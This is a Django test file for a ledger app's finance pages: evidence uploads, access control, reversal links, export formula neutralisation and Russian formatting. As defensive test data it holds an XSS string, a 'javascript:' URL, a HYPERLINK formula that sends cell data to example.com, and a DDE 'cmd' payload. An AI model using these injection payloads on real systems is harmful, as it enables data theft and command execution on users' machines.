"""Finance pages, second set: evidence files booked through the form and downloaded by readers only, reversal
pairs linked both ways, the page's export links neutralising formulas, the Finance nav link for everyone who
reads some ledger, and the portfolio in Russian. (The first set is tests/ui/test_ledger_pages.py.)"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheet import FORMULA_PREFIXES
from governance.audit.models import AuditEvent
from governance.ledger.models import LedgerEntry
from registry.models import ModelPassport
from tests.governance import ledger_helpers
from tests.governance.ledger_helpers import book

pytestmark = pytest.mark.django_db
org = ledger_helpers.org  # the shared fixture

HOSTILE = '<script>alert(1)</script><img src="http://example.com/x.png">'
FORMULA = '=HYPERLINK("http://example.com/steal?d="&A1,"click")'
BOOK = {"book-category": "cost_saving", "book-amount": "250", "book-currency": "EUR", "book-period": "2024-05",
        "book-description": "Saving with evidence"}


def ledger_url(passport) -> str:
    return reverse("governance:passport_ledger", args=[passport.key])


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_evidence_file_booked_through_the_form_downloads_for_readers_only(client, org):
    client.force_login(org.finance_a)
    upload = SimpleUploadedFile("invoice.html", HOSTILE.encode(), content_type="text/html")
    response = client.post(reverse("governance:ledger_book", args=[org.pa.key]),
                           {**BOOK, "book-evidence_text": HOSTILE, "book-evidence_file": upload})
    assert response.status_code == 302
    entry = LedgerEntry.objects.get()
    assert len(entry.evidence_sha256) == 64 and entry.evidence_file.name.endswith(".html")
    event = AuditEvent.objects.get(action="ledger.entry_booked")
    assert entry.evidence_sha256 in str(event.digests)
    url = reverse("governance:ledger_evidence", args=[org.pa.key, entry.pk])
    html = client.get(ledger_url(org.pa)).content.decode()
    assert f'href="{url}"' in html and entry.evidence_sha256[:12] in html
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    client.force_login(org.auditor)
    download = client.get(url)
    assert download.status_code == 200 and body(download) == HOSTILE.encode()
    assert download["Content-Type"] == "application/octet-stream"  # never rendered inline in our origin
    assert download["Content-Disposition"].startswith("attachment;") and "credit-score-entry-" in \
        download["Content-Disposition"]
    for user in (org.developer, org.outsider, org.finance_b):
        client.force_login(user)
        expected = 200 if user == org.finance_b else 404  # the finance role reads every ledger
        assert client.get(url).status_code == expected, user
    client.force_login(org.auditor)
    plain = book(org.finance_a, org.pa, "cost_saving", 10)
    assert client.get(reverse("governance:ledger_evidence", args=[org.pa.key, plain.pk])).status_code == 404
    # an entry of another passport is not reachable under this passport's key
    other = book(org.finance_b, org.pb, "cost_saving", 10)
    assert client.get(reverse("governance:ledger_evidence", args=[org.pa.key, other.pk])).status_code == 404


def test_bad_evidence_link_is_refused_and_books_nothing(client, org):
    client.force_login(org.finance_a)
    response = client.post(reverse("governance:ledger_book", args=[org.pa.key]),
                           {**BOOK, "book-evidence_url": "javascript:alert(1)"})
    assert response.status_code == 400 and "Enter a valid URL." in response.content.decode()
    assert 'href="javascript:' not in response.content.decode()
    assert not LedgerEntry.objects.exists() and not AuditEvent.objects.filter(action="ledger.entry_booked").exists()


def test_reversal_pair_rows_link_to_each_other(client, org):
    entry = book(org.finance_a, org.pa, "cost_saving", 500)
    client.force_login(org.finance_a)
    client.post(reverse("governance:ledger_reverse", args=[org.pa.key, entry.pk]), {"reverse-reason": "Twice."})
    reversal = LedgerEntry.objects.get(reversal_of=entry)
    html = client.get(ledger_url(org.pa)).content.decode()
    original_row = re.search(rf'<tr id="entry-{entry.pk}" class="([^"]*)">(.*?)</tr>', html, re.S)
    reversal_row = re.search(rf'<tr id="entry-{reversal.pk}" class="([^"]*)">(.*?)</tr>', html, re.S)
    assert original_row.group(1) == "entry-reversed" and reversal_row.group(1) == "entry-reversal"
    assert f'href="#entry-{reversal.pk}"' in original_row.group(2)
    assert f'href="#entry-{entry.pk}"' in reversal_row.group(2)
    assert "Book the reversal" not in original_row.group(2) + reversal_row.group(2)  # neither can be reversed again


def _export_links(html: str, prefix: str) -> tuple[str, str]:
    def link(kind):
        return re.search(rf'href="([^"]+)" id="{prefix}-export-{kind}"', html).group(1).replace("&amp;", "&")
    return link("csv"), link("xlsx")


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _assert_no_formula(cells, expected: str):
    """No text cell starts like a formula (numbers, negative ones too, stay numbers); ``expected`` is quoted."""
    texts = [c for c in cells if isinstance(c, str) and not _is_number(c)]
    assert "'" + expected in texts
    assert not [c for c in texts if c.startswith(FORMULA_PREFIXES)], texts


def test_export_links_of_the_ledger_and_the_portfolio_neutralise_formulas(client, org):
    ModelPassport.objects.filter(pk=org.pa.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    book(org.finance_a, org.pa, "cost_saving", 100, description=FORMULA, evidence_text="+1+1")
    book(org.finance_a, org.pa, "development", 40, description="-2+3", period=date(2024, 2, 1))
    client.force_login(org.auditor)

    csv_url, xlsx_url = _export_links(client.get(ledger_url(org.pa)).content.decode(), "ledger")
    response = client.get(csv_url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    _assert_no_formula(cells, FORMULA)
    assert "'+1+1" in cells and "'-2+3" in cells
    sheet = load_workbook(io.BytesIO(body(client.get(xlsx_url))), read_only=True).active
    cells = [c for row in sheet.iter_rows(min_row=2, values_only=True) for c in row]
    _assert_no_formula(cells, FORMULA)
    assert 100 in cells or 100.0 in cells  # amounts stay numbers

    csv_url, xlsx_url = _export_links(client.get(reverse("governance:finance_portfolio")).content.decode(),
                                      "portfolio")
    rows = list(csv.reader(io.StringIO(body(client.get(csv_url)).decode("utf-8-sig"))))
    _assert_no_formula([c for row in rows[1:] for c in row], "@SUM(1+1)*cmd|' /C calc'!A0")
    sheet = load_workbook(io.BytesIO(body(client.get(xlsx_url))), read_only=True).active
    _assert_no_formula([c for row in sheet.iter_rows(min_row=2, values_only=True) for c in row],
                       "@SUM(1+1)*cmd|' /C calc'!A0")


def _nav_links(html: str) -> list[str]:
    return re.findall(r'<a class="nav-link[^"]*" href="([^"]+)"', html)


def test_finance_nav_link_for_everyone_who_reads_some_ledger(client, org):
    finance = reverse("governance:finance_portfolio")
    # the role (finance, auditor, risk), the business owner of a passport, a user granted a business unit
    for user in (org.finance_none, org.auditor, org.risk, org.owner, org.granted_only):
        client.force_login(user)
        assert finance in _nav_links(client.get(reverse("registry:passport_list")).content.decode()), user
    for user in (org.developer, org.outsider):  # no amounts anywhere: no link, and the page lists nothing
        client.force_login(user)
        assert finance not in _nav_links(client.get(reverse("registry:passport_list")).content.decode()), user
        assert "<tr data-passport=" not in client.get(finance).content.decode()
    client.force_login(org.granted_only)  # sees unit A's ledger only
    html = client.get(finance).content.decode()
    assert re.findall(r'<tr data-passport="([^"]+)"', html) == ["credit-score"]


def test_portfolio_and_entries_in_russian(client, org):
    book(org.finance_a, org.pa, "cost_saving", "1234567.5", period=date(2024, 3, 1))
    client.cookies["django_language"] = "ru"
    client.force_login(org.auditor)
    html = client.get(reverse("governance:finance_portfolio")).content.decode()
    net = re.search(r'id="kpi-net">([^<]+)<', html).group(1)
    assert net.replace("\xa0", " ") == "1 234 567,50"
    assert "Финансовый портфель" in html or "Финансы" in html
    html = client.get(ledger_url(org.pa)).content.decode()
    assert "2024-03" in html and "EUR" in html  # the period and the currency code of each entry
    row = re.search(r'<tr id="entry-\d+"[^>]*>(.*?)</tr>', html, re.S).group(1)
    assert "1\xa0234\xa0567,50" in row or "1 234 567,50" in row


def test_an_entry_in_another_currency_shows_its_amount_in_the_base_currency(client, org):
    usd = book(org.finance_a, org.pa, "cost_saving", "1000", currency="USD", rate="0.9")
    eur = book(org.finance_a, org.pa, "cost_saving", "10")
    client.force_login(org.auditor)
    html = client.get(ledger_url(org.pa)).content.decode()
    usd_row = re.search(rf'<tr id="entry-{usd.pk}"[^>]*>(.*?)</tr>', html, re.S).group(1)
    eur_row = re.search(rf'<tr id="entry-{eur.pk}"[^>]*>(.*?)</tr>', html, re.S).group(1)
    assert re.search(r"1,000.00</span>\s+USD", usd_row) and re.search(r"= <span[^>]*>900.00</span>\s+EUR", usd_row)
    assert "= <span" not in eur_row  # in the base currency already: one amount
